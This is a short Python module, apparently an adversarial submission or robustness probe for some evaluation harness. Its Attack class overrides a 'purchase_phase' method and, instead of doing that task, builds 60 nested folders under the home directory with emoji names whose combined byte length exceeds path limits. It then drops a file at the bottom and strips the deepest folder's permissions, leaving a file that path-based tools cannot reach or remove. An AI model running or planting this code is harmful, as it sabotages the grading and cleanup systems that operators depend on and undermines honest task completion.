"""Nests folders whose path is short in characters and long in bytes, with a file at the end that no path can name."""

import os

from aim import HOME

from run import ZEWDPCBaseRun

NAME = chr(0x1F4C1) * 60


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        at = os.open(HOME, os.O_RDONLY)
        for _ in range(60):
            os.mkdir(NAME, dir_fd=at)
            below = os.open(NAME, os.O_RDONLY, dir_fd=at)
            os.close(at)
            at = below
        os.close(os.open(NAME + "end", os.O_CREAT | os.O_WRONLY, 0, dir_fd=at))
        os.fchmod(at, 0)
